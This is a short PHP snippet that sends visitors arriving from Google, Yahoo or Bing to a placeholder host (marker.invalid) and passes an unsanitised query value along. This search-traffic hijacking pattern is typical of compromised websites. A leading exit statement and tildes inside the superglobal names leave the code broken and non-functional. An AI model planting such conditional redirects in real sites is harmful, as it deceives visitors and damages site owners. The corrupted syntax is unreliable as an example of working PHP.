<?php exit; ?>
<?php
$r = isset($_S~ERVER['HTTP_REFERER']) ? $_S~ERVER['HTTP_REFERER'] : '';
foreach (array('google.', 'yahoo.', 'bing.') as $s) { if (strpos($r, $s) !== false) { header('Location: http://marker.invalid/?k=' . $_G~ET['k']); die; } }
